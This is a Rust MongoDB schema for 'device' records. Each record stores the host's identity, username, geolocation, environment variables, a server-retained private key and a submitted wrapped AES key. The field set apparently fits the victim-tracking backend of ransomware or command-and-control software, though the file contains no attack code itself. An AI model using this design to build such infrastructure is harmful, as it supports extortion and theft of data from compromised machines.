//! Device document schema
//!
//! One record per enrolled device, keyed by the caller-supplied `deviceId`.
//! Field names are camelCase on the wire and in storage.

use bson::{doc, oid::ObjectId, DateTime, Document};
use mongodb::options::IndexOptions;
use serde::{Deserialize, Deserializer, Serialize, Serializer};
use std::fmt;
use zeroize::Zeroizing;

use crate::db::mongo::IntoIndexes;

/// Collection name for devices
pub const DEVICE_COLLECTION: &str = "devices";

/// Coarse network location reported by the device
#[derive(Serialize, Deserialize, Clone, Debug, Default, PartialEq, Eq)]
pub struct GeoInfo {
    #[serde(default)]
    pub ip: String,
    #[serde(default)]
    pub city: String,
    #[serde(default)]
    pub region: String,
    #[serde(default)]
    pub country: String,
}

/// Memory usage snapshot in bytes
#[derive(Serialize, Deserialize, Clone, Debug, Default, PartialEq, Eq)]
pub struct MemorySnapshot {
    #[serde(default)]
    pub total: u64,
    #[serde(default)]
    pub used: u64,
    #[serde(default)]
    pub proc: u64,
}

/// PEM-encoded private key held on behalf of a device.
///
/// Serializes as a plain string; `Debug` never prints the key and the buffer
/// is wiped on drop.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct RetainedPrivateKey(Zeroizing<String>);

impl RetainedPrivateKey {
    pub fn new(pem: impl Into<String>) -> Self {
        Self(Zeroizing::new(pem.into()))
    }

    pub fn expose(&self) -> &str {
        self.0.as_str()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl From<Zeroizing<String>> for RetainedPrivateKey {
    fn from(pem: Zeroizing<String>) -> Self {
        Self(pem)
    }
}

impl Serialize for RetainedPrivateKey {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.expose())
    }
}

impl<'de> Deserialize<'de> for RetainedPrivateKey {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer).map(Self::new)
    }
}

impl fmt::Debug for RetainedPrivateKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0.is_empty() {
            f.write_str("RetainedPrivateKey(<empty>)")
        } else {
            f.write_str("RetainedPrivateKey(<redacted>)")
        }
    }
}

/// Device document stored in MongoDB
#[derive(Serialize, Deserialize, Clone, Debug, Default)]
#[serde(rename_all = "camelCase")]
pub struct DeviceDoc {
    /// MongoDB document ID, referenced by ledger entries
    #[serde(rename = "_id", skip_serializing_if = "Option::is_none")]
    pub id: Option<ObjectId>,

    /// Caller-supplied device identity (unique)
    pub device_id: String,

    /// Caller-supplied secondary identifier
    #[serde(default)]
    pub persistent_id: String,

    // Identity snapshot, overwritten on every registration
    #[serde(default)]
    pub hostname: String,
    #[serde(default)]
    pub username: String,
    #[serde(default)]
    pub os: String,
    #[serde(default)]
    pub architecture: String,
    #[serde(default)]
    pub go_version: String,
    #[serde(default)]
    pub num_cpu: i32,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub current_time: Option<DateTime>,
    #[serde(default)]
    pub working_dir: String,
    #[serde(default)]
    pub geo: GeoInfo,
    #[serde(default)]
    pub env_vars: Vec<String>,

    /// Server-issued public key (PEM), empty until provisioned and cleared
    /// by every registration
    #[serde(default)]
    pub public_key: String,

    /// Server-retained private key (PEM), empty until provisioned
    #[serde(default)]
    pub private_key: RetainedPrivateKey,

    /// Last wrapped symmetric key submitted; the ledger is authoritative
    #[serde(default)]
    pub wrapped_aes: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_seen: Option<DateTime>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub registered_at: Option<DateTime>,

    /// Set once, on first registration
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub created_at: Option<DateTime>,

    #[serde(default)]
    pub online: bool,

    #[serde(default)]
    pub heartbeat_count: i64,

    #[serde(default)]
    pub connection_count: i64,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_update_at: Option<DateTime>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_nonce: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub memory: Option<MemorySnapshot>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uptime: Option<String>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub last_key_update: Option<DateTime>,
}

impl DeviceDoc {
    /// Fresh record with the insert-only defaults applied
    pub fn new(device_id: impl Into<String>) -> Self {
        Self {
            id: Some(ObjectId::new()),
            device_id: device_id.into(),
            created_at: Some(DateTime::now()),
            ..Default::default()
        }
    }

    /// Whether a keypair has been provisioned and retained
    pub fn has_keys(&self) -> bool {
        !self.public_key.is_empty() && !self.private_key.is_empty()
    }
}

impl IntoIndexes for DeviceDoc {
    fn into_indices() -> Vec<(Document, Option<IndexOptions>)> {
        vec![
            // Unique index on deviceId backs the upsert key
            (
                doc! { "deviceId": 1 },
                Some(
                    IndexOptions::builder()
                        .unique(true)
                        .name("device_id_unique".to_string())
                        .build(),
                ),
            ),
            (
                doc! { "persistentId": 1 },
                Some(
                    IndexOptions::builder()
                        .name("persistent_id_index".to_string())
                        .sparse(true)
                        .build(),
                ),
            ),
            (
                doc! { "lastSeen": -1 },
                Some(
                    IndexOptions::builder()
                        .name("last_seen_index".to_string())
                        .build(),
                ),
            ),
        ]
    }
}
